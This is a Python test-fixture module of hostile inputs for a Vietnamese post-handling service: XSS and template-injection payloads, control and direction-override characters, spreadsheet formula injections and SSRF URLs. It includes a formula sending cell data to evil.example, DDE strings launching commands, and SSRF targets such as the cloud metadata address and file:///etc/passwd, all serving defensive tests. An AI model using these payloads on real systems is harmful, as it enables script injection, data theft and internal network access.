"""Hostile inputs written for these tests: markup, templates, control characters, formulas, URLs.

Every text is wrapped in Vietnamese words so that the pipeline treats it as an ordinary post.
`XSS_MARK` payloads record into `window.__xss` or call `alert` when they run (see
tests/hostile/test_browser.py); the HTML tests check that none reaches a page unescaped.
"""

from __future__ import annotations

#: Markup and script payloads; each would run script if a page printed it raw.
XSS: tuple[str, ...] = (
    "<script>window.__xss.push(1)</script>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.__xss.push(2)>",
    "<img src=x onerror=alert(1)>",
    '<svg onload="window.__xss.push(3)">',
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:window.__xss.push(4)">bấm</a>',
    "javascript:alert(1)",
    '"><script>window.__xss.push(5)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>window.__xss.push(6)</script>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<input autofocus onfocus=window.__xss.push(7)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div hx-get=/admin/users hx-trigger=load>htmx</div>",
    "<style>body{display:none}</style>",
)

#: Template-injection strings (Jinja, JS template literals, other engines).
TEMPLATES: tuple[str, ...] = (
    "{{7*7}}",
    "{{ config }}",
    "{% raw %}{{7*7}}{% endraw %}",
    "{% for x in range(3) %}x{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
)

#: Control, direction and invisible characters, and very long text.
ODD: tuple[str, ...] = (
    "tin\x00rỗng\x00byte",
    "chuông\x07 lùi\x08 esc\x1b[31m đỏ",
    "xuống\r\ndòng\rcũ\x0b\x0c",
    "gd\u202egnp.exe đổi chiều",
    "không\u200brộng\u200c\u200d\ufeffđâu",
    "\u2066cô lập\u2069 \u061c",
    "\ud7ff biên \ue000 riêng \U0010ffff",
    "a" * 3000 + " dài",
)

#: Spreadsheet formulas: none may stay a live formula in an export.
FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/c notepad'!'A1'",
)

#: Every text above, in a post-like sentence (the 1 MB text is separate: it is refused).
TEXTS: tuple[str, ...] = (
    tuple(
        f"{payload} Cảnh báo lừa đảo chuyển tiền số {n}"
        for n, payload in enumerate(XSS + TEMPLATES + ODD)
    )
    + FORMULAS
)  # formulas must lead the cell to be dangerous

#: One megabyte of text: must be refused or stored, never a server error.
MEGABYTE = "Tin giả " * (1024 * 1024 // 8)

#: URLs that a server-side fetch must never reach.
SSRF_URLS: tuple[str, ...] = (
    "http://127.0.0.1/",
    "http://127.0.0.1:8000/api/v1/me",
    "http://localhost/",
    "http://127.0.0.1./",
    "http://localhost./",
    "http://10.0.0.1/",
    "http://172.16.0.1/",
    "http://192.168.1.1/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::1]/",
    "http://[::ffff:127.0.0.1]/",
    "http://2130706433/",
    "http://0177.0.0.1/",
    "http://0x7f000001/",
    "http://0/",
    "http://[fe80::1]/",
    "http://100.64.0.1/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:25/_HELO",
    "ftp://127.0.0.1/",
    "dict://127.0.0.1:11211/stats",
)


def needle(text: str) -> str:
    """A part of a payload that must never appear raw in HTML (the live markup)."""
    return text.split(" Cảnh báo")[0]
